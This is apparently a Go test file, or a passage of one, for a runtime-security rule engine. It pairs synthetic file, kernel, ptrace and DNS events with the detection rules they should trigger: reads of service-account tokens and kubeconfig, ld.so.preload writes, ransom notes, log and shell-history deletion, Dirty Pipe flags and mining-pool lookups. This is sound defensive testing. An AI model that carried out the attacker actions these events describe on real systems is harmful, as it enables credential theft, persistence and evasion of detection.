	{"a token of Kubernetes", `"type":"open","open.file.path":"/run/secrets/kubernetes.io/serviceaccount/..2024/token","open.file.name":"token","process.file.path":"/bin/cat"`, "k8s_pod_service_account_token_accessed"},
	{"by a program that uses it", `"type":"open","open.file.path":"/run/secrets/kubernetes.io/serviceaccount/token","open.file.name":"token","process.file.path":"/coredns"`, ""},
	{"below the agent", `"type":"open","open.file.path":"/run/secrets/kubernetes.io/serviceaccount/token","open.file.name":"token","process.file.path":"/bin/cat","process.ancestors":[{"file.path":"/opt/datadog-agent/bin/agent/agent"}]`, ""},
	{"a module compiled in a container", `"type":"open","open.file.path":"/tmp/b/a.ko","open.file.name":"a.ko","open.flags":"O_RDWR|O_CREAT","process.comm":"ld","process.file.name":"ld.bfd","container.id":"abc","process.ancestors":[{"comm":"collect2"},{"comm":"gcc"}]`, "compile_after_delivery"},
	{"an object in the same place", `"type":"open","open.file.path":"/tmp/b/a.o","open.file.name":"a.o","open.flags":"O_RDWR|O_CREAT","process.comm":"ld","process.file.name":"ld.bfd","container.id":"abc","process.ancestors":[{"comm":"collect2"},{"comm":"gcc"}]`, ""},
	{"not made, but opened", `"type":"open","open.file.path":"/tmp/b/a.ko","open.file.name":"a.ko","open.flags":"O_RDWR","process.comm":"ld","process.file.name":"ld.bfd","container.id":"abc","process.ancestors":[{"comm":"collect2"},{"comm":"gcc"}]`, ""},
	{"a pattern that begins with a star", `"type":"open","open.file.path":"/usr/bin/x","open.file.name":"x","open.flags":"O_WRONLY|O_CREAT","process.comm":"gcc","process.file.name":"gcc","process.file.path":"/opt/gcc","container.id":"abc","container.created_at":"now-10s"`, "compile_after_delivery pci_11_5_critical_binaries_open"},
	{"the star is one directory", `"type":"open","open.file.path":"/opt/a/bin/x","open.file.name":"x","open.flags":"O_WRONLY|O_CREAT","process.comm":"gcc","process.file.name":"gcc","process.file.path":"/opt/gcc","container.id":"abc"`, ""},
	{"a linker's configuration", `"type":"open","open.file.path":"/etc/ld.so.preload","open.file.name":"ld.so.preload","open.flags":"O_WRONLY|O_CREAT","process.file.path":"/bin/sh"`, "dynamic_linker_config_write"},
	{"a star in a string is a star, in a path too", `"type":"open","open.file.path":"/etc/ld.so.conf.d/x.conf","open.file.name":"x.conf","open.flags":"O_WRONLY|O_CREAT","process.file.path":"/bin/sh"`, ""},
	{"below the agent's installer", `"type":"open","open.file.path":"/etc/ld.so.preload","open.file.name":"ld.so.preload","open.flags":"O_WRONLY|O_CREAT","process.file.path":"/bin/sh","process.ancestors":[{"file.path":"/usr/bin/dd-host-install"}]`, ""},
	{"a script downloaded", `"type":"open","open.file.path":"/tmp/a/x.sh","open.file.name":"x.sh","open.flags":"O_WRONLY|O_CREAT","process.comm":"curl"`, "net_file_download"},
	{"a text downloaded", `"type":"open","open.file.path":"/tmp/a/x.txt","open.file.name":"x.txt","open.flags":"O_WRONLY|O_CREAT","process.comm":"curl"`, ""},
	{"a program downloaded", `"type":"open","open.file.path":"/usr/local/bin/x","open.file.name":"x","open.flags":"O_WRONLY|O_CREAT","process.comm":"wget"`, "net_file_download pci_11_5_critical_binaries_open pci_11_5_critical_binaries_open_v2"},
	{"a container that is just 90 s old", `"type":"open","open.file.path":"/etc/nsswitch.conf","open.file.name":"nsswitch.conf","open.flags":"O_RDWR","container.id":"abc","container.created_at":"now-90s"`, "nsswitch_conf_mod_open"},
	{"a container that is older", `"type":"open","open.file.path":"/etc/nsswitch.conf","open.file.name":"nsswitch.conf","open.flags":"O_RDWR","container.id":"abc","container.created_at":"now-90001ms"`, "nsswitch_conf_mod_open nsswitch_conf_mod_open_v2"},
	{"only truncated, which that rule does not ask for", `"type":"open","open.file.path":"/etc/nsswitch.conf","open.file.name":"nsswitch.conf","open.flags":"O_TRUNC"`, ""},
	{"only truncated, which this one does", `"type":"open","open.file.path":"/etc/pam.conf","open.file.name":"pam.conf","open.flags":"O_TRUNC"`, "pam_modification_open"},
	{"appended without a flag to write", `"type":"open","open.file.path":"/etc/pam.conf","open.file.name":"pam.conf","open.flags":"O_APPEND"`, ""},
	{"refused: no rule asks for the result", `"type":"open","open.file.path":"/etc/pam.d/sshd","open.file.name":"sshd","open.flags":"O_WRONLY","open.retval":"EACCES","process.uid":1000`, "pam_modification_open"},
	{"refused, and only to be read", `"type":"open","open.file.path":"/etc/shadow","open.file.name":"shadow","open.flags":"O_RDONLY","open.retval":"EACCES","process.uid":1000`, ""},
	{"** is no directory, too", `"type":"open","open.file.path":"/etc/pam.d","open.file.name":"pam.d","open.flags":"O_RDWR"`, "pam_modification_open"},
	{"a directory that begins the same", `"type":"open","open.file.path":"/etc/pam.d.bak/sshd","open.file.name":"sshd","open.flags":"O_RDWR"`, ""},
	{"* and ** in one pattern", `"type":"open","open.file.path":"/etc/cron.daily/a/b","open.file.name":"b","open.flags":"O_RDWR"`, "cron_at_job_creation_open"},
	{"a pattern without a star", `"type":"open","open.file.path":"/etc/crontab","open.file.name":"crontab","open.flags":"O_RDWR"`, "cron_at_job_creation_open"},
	{"and a longer name", `"type":"open","open.file.path":"/etc/crontab.bak","open.file.name":"crontab.bak","open.flags":"O_RDWR"`, ""},
	{"/bin/* is not deeper", `"type":"open","open.file.path":"/bin/a/b","open.file.name":"b","open.flags":"O_RDWR"`, ""},
	{"/boot/** is", `"type":"open","open.file.path":"/boot/a/b","open.file.name":"b","open.flags":"O_RDWR"`, "pci_11_5_critical_binaries_open pci_11_5_critical_binaries_open_v2"},
	{"writes to registers", `"type":"open","open.file.path":"/sys/module/msr/parameters/allow_writes","open.file.name":"allow_writes","open.flags":"O_WRONLY"`, "open_msr_writes"},
	{"a ransom note", `"type":"open","open.file.path":"/home/u/a/HOW_TO_DECRYPT.txt","open.file.name":"HOW_TO_DECRYPT.txt","open.flags":"O_WRONLY|O_CREAT"`, "ransomware_note"},
	{"a lock", `"type":"open","open.file.path":"/home/u/a/recover_files.lock","open.file.name":"recover_files.lock","open.flags":"O_WRONLY|O_CREAT"`, ""},
	{"a file to read", `"type":"open","open.file.path":"/home/u/a/README.md","open.file.name":"README.md","open.flags":"O_WRONLY|O_CREAT"`, ""},
	{"rc scripts", `"type":"open","open.file.path":"/etc/rc.local","open.file.name":"rc.local","open.flags":"O_RDWR"`, "rc_scripts_modified"},
	{"rc scripts below a package manager", `"type":"open","open.file.path":"/etc/rc.local","open.file.name":"rc.local","open.flags":"O_RDWR","process.ancestors":[{"file.path":"/usr/bin/yum"}]`, ""},
	{"kubeconfig", `"type":"open","open.file.path":"/home/u/.kube/config","open.file.name":"config"`, "read_kubeconfig"},
	{"kubeconfig, deeper", `"type":"open","open.file.path":"/home/u/a/.kube/config","open.file.name":"config"`, ""},
	{"O_RDONLY is 0, so no flags have it", `"type":"open","open.file.path":"/etc/lsb-release","open.file.name":"lsb-release","open.flags":"O_RDONLY"`, ""},
	{"Redis out of its sandbox", `"type":"open","open.file.path":"/usr/lib/x86_64-linux-gnu/libc-2.31.so","open.file.name":"libc-2.31.so","process.ancestors":[{"comm":"sh"},{"comm":"redis-server"}]`, "redis_sandbox_escape"},
	{"another version", `"type":"open","open.file.path":"/usr/lib/x86_64-linux-gnu/libc-2.28.so","open.file.name":"libc-2.28.so","process.ancestors":[{"comm":"sh"},{"comm":"redis-server"}]`, ""},
	{"a module that Redis saves", `"type":"open","open.file.path":"/tmp/x.so","open.file.name":"x.so","open.flags":"O_WRONLY|O_CREAT","process.file.name":"redis-server"`, "redis_save_module"},
	{"runc, which is a program too", `"type":"open","open.file.path":"/usr/sbin/runc","open.file.name":"runc","open.flags":"O_WRONLY","process.file.path":"/tmp/x"`, "pci_11_5_critical_binaries_open pci_11_5_critical_binaries_open_v2 runc_modification"},
	{"runc by a runtime at another path", `"type":"open","open.file.path":"/usr/sbin/runc","open.file.name":"runc","open.flags":"O_WRONLY","process.file.path":"/usr/local/bin/dockerd"`, "pci_11_5_critical_binaries_open pci_11_5_critical_binaries_open_v2 runc_modification"},
	{"runc by a runtime that the macro knows", `"type":"open","open.file.path":"/usr/sbin/runc","open.file.name":"runc","open.flags":"O_WRONLY","process.file.path":"/usr/local/bin/containerd"`, ""},
	{"a history truncated", `"type":"open","open.file.path":"/home/u/a/.zsh_history","open.file.name":".zsh_history","open.flags":"O_WRONLY|O_TRUNC","process.file.name":"truncate"`, "shell_history_truncated"},
	{"a history truncated, deeper than /root/*", `"type":"open","open.file.path":"/root/a/.bash_history","open.file.name":".bash_history","open.flags":"O_WRONLY|O_TRUNC","process.file.name":"truncate"`, ""},
	{"a history written", `"type":"open","open.file.path":"/root/.bash_history","open.file.name":".bash_history","open.flags":"O_WRONLY|O_APPEND","process.file.name":"bash"`, ""},
	{"a profile", `"type":"open","open.file.path":"/home/u/.bashrc","open.file.name":".bashrc","open.flags":"O_WRONLY"`, "shell_profile_modification"},
	{"root's profile", `"type":"open","open.file.path":"/root/.bashrc","open.file.name":".bashrc","open.flags":"O_WRONLY"`, ""},
	{"a worm's configuration", `"type":"open","open.file.path":"/home/u/.prng/x","open.file.name":"x","open.flags":"O_WRONLY"`, "ssh_it_tool_config_write"},
	{"root's, with a string for a pattern", `"type":"open","open.file.path":"/root/.prng/x","open.file.name":"x","open.flags":"O_WRONLY"`, ""},
	{"keys of a service's user", `"type":"open","open.file.path":"/var/lib/git/.ssh/authorized_keys2","open.file.name":"authorized_keys2","open.flags":"O_WRONLY","container.id":"abc","container.created_at":"now-1s"`, "ssh_authorized_keys_open"},
	{"another file beside the keys", `"type":"open","open.file.path":"/var/lib/git/.ssh/known_hosts","open.file.name":"known_hosts","open.flags":"O_WRONLY"`, ""},
	{"certificates by a runtime", `"type":"open","open.file.path":"/etc/pki/ca.pem","open.file.name":"ca.pem","open.flags":"O_CREAT","process.file.path":"/usr/sbin/runc","process.file.name":"runc"`, ""},
	{"certificates by their own tool", `"type":"open","open.file.path":"/etc/pki/ca.pem","open.file.name":"ca.pem","open.flags":"O_CREAT","process.file.path":"/usr/bin/ln","process.file.name":"ln","process.ancestors":[{"file.path":"/usr/sbin/update-ca-certificates"}]`, ""},

	// Files that are changed otherwise.
	{"a log deleted", `"type":"unlink","unlink.file.path":"/var/log/auth.log","unlink.file.name":"auth.log","process.comm":"rm"`, "delete_system_log"},
	{"an old log deleted", `"type":"unlink","unlink.file.path":"/var/log/auth.log.1","unlink.file.name":"auth.log.1","process.comm":"rm"`, ""},
	{"a log deleted by a runtime", `"type":"unlink","unlink.file.path":"/var/log/auth.log","unlink.file.name":"auth.log","process.comm":"containerd"`, ""},
	{"a history deleted", `"type":"unlink","unlink.file.path":"/root/.bash_history","unlink.file.name":".bash_history","process.comm":"rm"`, "shell_history_deleted"},
	{"of no shell", `"type":"unlink","unlink.file.path":"/root/.python_history","unlink.file.name":".python_history","process.comm":"rm"`, ""},
	{"a regular expression with an end", `"type":"unlink","unlink.file.path":"/root/.bash_history.1","unlink.file.name":".bash_history.1","process.comm":"rm"`, ""},
	{"a linker's configuration deleted", `"type":"unlink","unlink.file.path":"/etc/ld.so.conf.d/x.conf","unlink.file.name":"x.conf"`, "dynamic_linker_config_unlink"},
	{"certificates of that directory have no rule", `"type":"unlink","unlink.file.path":"/etc/pki/ca.pem","unlink.file.name":"ca.pem"`, ""},
	{"refused", `"type":"unlink","unlink.file.path":"/etc/sudoers","unlink.file.name":"sudoers","unlink.retval":"EPERM"`, "sudoers_policy_modified_unlink"},
	{"a file made executable", `"type":"chmod","chmod.file.path":"/srv/x","chmod.file.name":"x","chmod.file.in_upper_layer":true,"chmod.file.change_time":"now-5s","chmod.file.mode":33188,"chmod.file.destination.mode":493,"container.id":"abc","process.argv":["+x","/srv/x"]`, "executable_bit_added"},
	{"by a number", `"type":"chmod","chmod.file.path":"/srv/x","chmod.file.name":"x","chmod.file.in_upper_layer":true,"chmod.file.change_time":"now-5s","chmod.file.mode":33188,"chmod.file.destination.mode":493,"container.id":"abc","process.argv":["755","/srv/x"]`, ""},
	{"not executable", `"type":"chmod","chmod.file.path":"/srv/x","chmod.file.name":"x","chmod.file.in_upper_layer":true,"chmod.file.change_time":"now-5s","chmod.file.mode":33188,"chmod.file.destination.mode":438,"container.id":"abc","process.argv":["+x","/srv/x"]`, ""},
	{"when it changed is not known", `"type":"chmod","chmod.file.path":"/srv/x","chmod.file.name":"x","chmod.file.in_upper_layer":true,"chmod.file.mode":33188,"chmod.file.destination.mode":493,"container.id":"abc","process.argv":["+x","/srv/x"]`, ""},
	{"the mode stays", `"type":"chmod","chmod.file.path":"/etc/sudoers","chmod.file.name":"sudoers","chmod.file.mode":288,"chmod.file.destination.mode":288`, ""},
	{"the owner stays", `"type":"chown","chown.file.path":"/etc/sudoers","chown.file.name":"sudoers","chown.file.uid":0,"chown.file.gid":0,"chown.file.destination.uid":0,"chown.file.destination.gid":0`, ""},
	{"-1 is another number", `"type":"chown","chown.file.path":"/etc/sudoers","chown.file.name":"sudoers","chown.file.uid":0,"chown.file.gid":0,"chown.file.destination.uid":-1,"chown.file.destination.gid":-1`, "sudoers_policy_modified_chown"},
	{"of keys the old name counts", `"type":"rename","rename.file.path":"/tmp/x","rename.file.name":"x","rename.file.destination.path":"/root/.ssh/authorized_keys","rename.file.destination.name":"authorized_keys"`, ""},
	{"two families", `"type":"rename","rename.file.path":"/etc/cron.d/a","rename.file.name":"a","rename.file.destination.path":"/etc/pam.d/b","rename.file.destination.name":"b"`, "cron_at_job_creation_rename pam_modification_rename"},
	{"two families, linked", `"type":"link","link.file.path":"/etc/gshadow","link.file.name":"gshadow","link.file.destination.path":"/bin/g","link.file.destination.name":"g"`, "credential_modified_link pci_11_5_critical_binaries_link"},
	{"by a tool for them", `"type":"rename","rename.file.path":"/etc/shadow+","rename.file.name":"shadow+","rename.file.destination.path":"/etc/shadow","rename.file.destination.name":"shadow","process.file.path":"/usr/sbin/usermod"`, ""},
	{"by at", `"type":"utimes","utimes.file.path":"/var/spool/cron/atjobs/a1","utimes.file.name":"a1","process.file.path":"/usr/bin/at"`, ""},
	{"below kmod", `"type":"utimes","utimes.file.path":"/lib/modules/6.1/modules.dep","utimes.file.name":"modules.dep","process.file.path":"/bin/sh","process.ancestors":[{"file.path":"/usr/bin/kmod"}]`, ""},
	{"out of a container", `"type":"chdir","chdir.file.path":"/sys/fs/cgroup","chdir.file.name":"cgroup","chdir.file.filesystem":"cgroup2","process.file.name":"runc.amd64"`, "runc_leaky_fd"},
	{"a dot in a pattern is a dot", `"type":"chdir","chdir.file.path":"/sys/fs/cgroup","chdir.file.name":"cgroup","chdir.file.filesystem":"cgroup2","process.file.name":"runc"`, ""},
	{"another file system", `"type":"chdir","chdir.file.path":"/sys/fs/cgroup","chdir.file.name":"cgroup","chdir.file.filesystem":"tmpfs","process.file.name":"runc.amd64"`, ""},

	// The kernel.
	{"a module", `"type":"load_module","load_module.name":"x","process.file.name":"kmod"`, "kernel_module_load"},
	{"a common module", `"type":"load_module","load_module.name":"nf_tables","process.file.name":"kmod"`, ""},
	{"a common module from a container", `"type":"load_module","load_module.name":"nf_tables","process.file.name":"kmod","container.id":"abc"`, "kernel_module_load_container"},
	{"a module by an ancestor that may", `"type":"load_module","load_module.name":"x","process.file.name":"kmod","process.ancestors":[{"file.name":"sh"},{"file.name":"falcon-sensor"}]`, ""},
	{"a module from memory", `"type":"load_module","load_module.name":"x","load_module.loaded_from_memory":true`, "kernel_module_load kernel_module_load_from_memory"},
	{"a module from a container's memory", `"type":"load_module","load_module.name":"x","load_module.loaded_from_memory":true,"container.id":"abc"`, "kernel_module_load kernel_module_load_container kernel_module_load_from_memory kernel_module_load_from_memory_container"},
	{"its name is not known", `"type":"load_module","load_module.loaded_from_memory":false,"container.id":"abc"`, "kernel_module_load"},
	{"the host's files", `"type":"mount","mount.source.path":"/","mount.fs_type":"ext4","mount.mountpoint.path":"/mnt","container.id":"abc"`, "mount_host_fs"},
	{"an overlay", `"type":"mount","mount.source.path":"/","mount.fs_type":"overlay","mount.mountpoint.path":"/mnt","container.id":"abc"`, ""},
	{"the host's files on the host", `"type":"mount","mount.source.path":"/","mount.fs_type":"ext4","mount.mountpoint.path":"/mnt"`, ""},
	{"a process hidden", `"type":"mount","mount.source.path":"/","mount.fs_type":"tmpfs","mount.mountpoint.path":"/proc/4711"`, "mount_proc_hide"},
	{"a mount point is no path of the language: * is any text", `"type":"mount","mount.fs_type":"tmpfs","mount.mountpoint.path":"/proc/4711/fd"`, "mount_proc_hide"},
	{"no process", `"type":"mount","mount.fs_type":"binfmt_misc","mount.mountpoint.path":"/proc/sys/fs/binfmt_misc"`, ""},
	{"nobody may trace it", `"type":"ptrace","ptrace.request":"PTRACE_TRACEME","process.file.name":"x"`, "ptrace_antidebug"},
	{"who does is not known", `"type":"ptrace","ptrace.request":"PTRACE_TRACEME"`, ""},
	{"memory written", `"type":"ptrace","ptrace.request":"PTRACE_POKEDATA","process.comm":"gdb","ptrace.tracee.euid":0`, "ptrace_injection"},
	{"registers written, refused", `"type":"ptrace","ptrace.request":"PTRACE_POKEUSR","ptrace.retval":"EPERM"`, "ptrace_injection"},
	{"root's memory read", `"type":"ptrace","ptrace.request":"PTRACE_PEEKTEXT","process.comm":"x","ptrace.tracee.euid":0`, "sensitive_tracing"},
	{"a user's memory read", `"type":"ptrace","ptrace.request":"PTRACE_PEEKTEXT","process.comm":"x","ptrace.tracee.euid":1000`, ""},
	{"by a debugger", `"type":"ptrace","ptrace.request":"PTRACE_PEEKTEXT","process.comm":"gdb","ptrace.tracee.euid":0`, ""},
	{"attached", `"type":"ptrace","ptrace.request":"PTRACE_ATTACH","process.comm":"x","process.file.name":"x","ptrace.tracee.euid":0`, ""},
	{"SELinux off", `"type":"selinux","selinux.enforce.status":"permissive"`, "selinux_disable_enforcement"},
	{"SELinux on", `"type":"selinux","selinux.enforce.status":"enforcing"`, ""},
	{"off by a configuration tool", `"type":"selinux","selinux.enforce.status":"disabled","process.ancestors":[{"argv":["-c","x"]},{"argv":["-c","echo BECOME-SUCCESS-abc"]}]`, ""},
	{"a pipe being made ready", `"type":"splice","splice.pipe_entry_flag":"PIPE_BUF_FLAG_CAN_MERGE","splice.pipe_exit_flag":0,"process.uid":1000,"process.gid":1000`, "dirty_pipe_attempt"},
	{"a pipe used", `"type":"splice","splice.pipe_entry_flag":0,"splice.pipe_exit_flag":"PIPE_BUF_FLAG_CAN_MERGE|PIPE_BUF_FLAG_LRU","process.uid":1000,"process.gid":1000`, "dirty_pipe_exploitation"},
	{"both", `"type":"splice","splice.pipe_entry_flag":"PIPE_BUF_FLAG_CAN_MERGE","splice.pipe_exit_flag":"PIPE_BUF_FLAG_CAN_MERGE","process.uid":1000,"process.gid":1000`, "dirty_pipe_exploitation"},
	{"with root's group", `"type":"splice","splice.pipe_entry_flag":"PIPE_BUF_FLAG_CAN_MERGE","splice.pipe_exit_flag":"PIPE_BUF_FLAG_CAN_MERGE","process.uid":1000,"process.gid":0`, ""},
	{"a setuid program becomes root", `"type":"setuid","setuid.uid":0,"setuid.euid":0,"process.uid":1000,"process.file.path":"/usr/bin/su","process.file.uid":0,"process.file.mode":35309`, "suid_file_execution"},
	{"in effect only", `"type":"setuid","setuid.uid":1000,"setuid.euid":0,"process.uid":1000,"process.file.path":"/usr/bin/su","process.file.uid":0,"process.file.mode":35309`, "suid_file_execution"},
	{"it becomes nobody", `"type":"setuid","setuid.uid":65534,"setuid.euid":65534,"process.uid":1000,"process.file.path":"/usr/bin/su","process.file.uid":0,"process.file.mode":35309`, ""},
	{"sudo", `"type":"setuid","setuid.uid":0,"setuid.euid":0,"process.uid":1000,"process.file.path":"/usr/bin/sudo","process.file.uid":0,"process.file.mode":35309`, ""},
	{"a map of one who names libpam", `"type":"bpf","bpf.cmd":"BPF_MAP_CREATE","process.argv":["-p","/lib/x86_64-linux-gnu/libpam.so.0"]`, "libpam_ebpf_hook"},
	{"a program of the same", `"type":"bpf","bpf.cmd":"BPF_PROG_LOAD","process.argv":["-p","/lib/x86_64-linux-gnu/libpam.so.0"]`, ""},

	// DNS.
	{"a chat room, whatever the case", `"type":"dns","dns.question.name":"Discord.COM","dns.question.type":"A"`, "chatroom_request"},
	{"below a chat room", `"type":"dns","dns.question.name":"x.discord.com","dns.question.type":"A"`, ""},
	{"one's own address", `"type":"dns","dns.question.name":"icanhazip.com","dns.question.type":"A","process.file.name":"curl"`, "ip_check_domain"},
	{"of nobody", `"type":"dns","dns.question.name":"icanhazip.com","dns.question.type":"A"`, ""},
	{"a pool", `"type":"dns","dns.question.name":"pool.MineXMR.com","dns.question.type":"AAAA","process.file.name":"x"`, "mining_pool_lookup"},
	{"only the beginning of a pool", `"type":"dns","dns.question.name":"minexmr.com.example.org","dns.question.type":"AAAA","process.file.name":"x"`, ""},
	{"a place for texts", `"type":"dns","dns.question.name":"pastebin.com","dns.question.type":"A","process.file.name":"x"`, "paste_site"},
	{"services of a cluster", `"type":"dns","dns.question.name":"any.any.svc.cluster.local","dns.question.type":"SRV","container.id":"abc"`, "kubernetes_dns_enumeration"},
	{"another type of question", `"type":"dns","dns.question.name":"any.any.svc.cluster.local","dns.question.type":"A","container.id":"abc"`, ""},

	// Types of events that the policy has no rules about.
	{"a signal", `"type":"signal","signal.type":"SIGKILL","signal.target.file.name":"auditd","process.file.name":"bash"`, ""},
	{"capabilities", `"type":"capset","capset.cap_effective":"CAP_SYS_ADMIN"`, ""},
	{"a group", `"type":"setgid","setgid.gid":0,"process.gid":1000,"process.file.mode":35309`, ""},
	{"code mapped", `"type":"mmap","mmap.protection":"PROT_READ|PROT_EXEC","mmap.file.name":"memfd:x"`, ""},
	{"code made writable", `"type":"mprotect","mprotect.req_protection":"VM_READ|VM_WRITE|VM_EXEC"`, ""},
	{"a module unloaded", `"type":"unload_module","unload_module.name":"x"`, ""},
	{"an attribute", `"type":"setxattr","setxattr.file.path":"/etc/shadow","setxattr.file.destination.name":"security.capability"`, ""},
	{"a directory removed", `"type":"rmdir","rmdir.file.path":"/etc/pam.d"`, ""},
	{"an exit of a shell in a container", `"type":"exit","exit.file.path":"/bin/bash","exit.file.name":"bash","exit.tty_name":"pts0","container.id":"abc","exit.argv":["-i"]`, ""},
	{"a port", `"type":"bind","bind.addr.port":4444,"bind.addr.family":"AF_INET","process.comm":"nc"`, ""},
}

// unreachable are the rules that no event matches, and why.
var unreachable = map[string]string{
	"curl_docker_socket":              `exec.args in ["*docker.sock*"] is about a string, and not a pattern; the other conditions make args longer`,
	"ld_preload_unusual_library_path": "exec.envs are names, and the patterns are about values",
	"read_release_info":               "open.flags & O_RDONLY is always 0",
}

// TestRealPolicyEvents: each event matches exactly the rules that the policy's text says, as it is and from its log record.
func TestRealPolicyEvents(t *testing.T) {
	set, _ := loadReal(t)
	hit := map[string]bool{}
	check := func(t *testing.T, flat string, want []string) {
		t.Helper()
		slices.Sort(want)
		got := matchedIDs(t, set, flat)
		if assert.Equal(t, want, got, flat) {
			for _, id := range want {
				hit[id] = true
			}
		}
	}
	for _, e := range realEvents {
		t.Run(strings.ReplaceAll(e.what, "/", "|"), func(t *testing.T) {
			check(t, "{"+e.event+"}", strings.Fields(e.rules))
		})
	}
	for _, row := range integrityRules {
		for family, file := range integrityFiles {
			for _, e := range integrityEvents {
				body := strings.NewReplacer("FILE", file, "NAME", path.Base(file)).Replace(e.event)
				want := []string{}
				switch hits := slices.Contains(strings.Fields(row.rules[family]), e.operation); {
				case hits && e.operation == "open" && openRules[family] != nil:
					want = append(want, openRules[family]...)
				case hits:
					want = append(want, family+"_"+e.operation)
				}
				t.Run(fmt.Sprintf("%s by %s: %s", e.operation, row.by, family), func(t *testing.T) {
					check(t, fmt.Sprintf(`{"type":%q,%s,%s}`, e.operation, body, row.event), want)
				})
			}
		}
	}
	for id := range set.ids {
		assert.Equal(t, unreachable[id] == "", hit[id], "%s: either some event matches a rule, or it is known that none can", id)
	}
}

// matchedIDs are the sorted ids of the rules that a Matcher finds for a flat event. It checks that the event's log record gives
// the same, and that a filter would let it through.
func matchedIDs(t *testing.T, set *Set, flat string) []string {
	t.Helper()
	ev, err := event.ParseFlatEventAt([]byte(flat), start)
	require.NoError(t, err, flat)
	find := func(ev *event.Event) []string {
		var m Matcher
		c := &secl.Context{Event: ev, Now: start, Host: "h"}
		ids := []string{}
		m.Match(set, c)
		for r := m.Next(); r != nil; r = m.Next() {
			ids = append(ids, r.ID)
		}
		if len(ids) > 0 {
			assert.True(t, m.MayMatch(set, c), "filtered: %s", flat)
		}
		slices.Sort(ids)
		return ids
	}
	got := find(ev)

	lr := plog.NewLogRecord()
	event.EncodeRecord(ev, &event.Host{ID: "h"}, lr)
	var d event.Decoder
	var decoded event.Event
	require.NoError(t, d.DecodeRecord(lr, set.Need(ev.Type), &decoded))
	assert.Equal(t, got, find(&decoded), "the record gives another result: %s\n%s", flat, lr.Body().Str())
	return got
}
